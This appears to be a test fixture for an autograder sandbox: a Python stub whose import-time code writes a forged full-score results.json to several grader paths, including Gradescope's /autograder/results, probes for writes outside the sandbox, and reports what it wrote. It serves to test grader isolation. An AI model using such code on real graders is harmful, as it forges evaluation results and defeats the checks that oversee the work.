# base: stub
"""Case 1: writes a full-score results.json at import, in its working directory and at
Gradescope's results path; reports (through kmeans_loss) who it runs as and what it wrote."""
import json
import os
from pathlib import Path

FULL = {"score": 16.0, "output": "all good", "tests": [{"name": "everything", "score": 16.0, "max_score": 16.0}]}
MARKERS = "@MARKERS@"


def _in_sandbox() -> bool:
    return Path.cwd().name in ("scratch", "scratch-2") and Path.cwd().parent.name.startswith("course-worker-")


def _plant() -> list[str]:
    try:  # a marker only code running outside the sandbox can write (the folder is invisible inside)
        Path(MARKERS, f"import-{os.getuid()}-{os.getpid()}").write_text("imported")
    except OSError:
        pass
    written = []
    here = Path.cwd()
    for target in (here / "results.json", here.parent / "results" / "results.json",
                   here.parent.parent / "results" / "results.json", Path("/autograder/results/results.json")):
        try:
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_text(json.dumps(FULL))
            written.append(str(target))
        except OSError:
            pass
    return written


WRITTEN = _plant() if _in_sandbox() else []


def kmeans_loss(data, centroids):
    report = {"uid": os.getuid(), "cwd": os.getcwd(), "written": WRITTEN}
    raise RuntimeError("REPORT " + json.dumps(report))
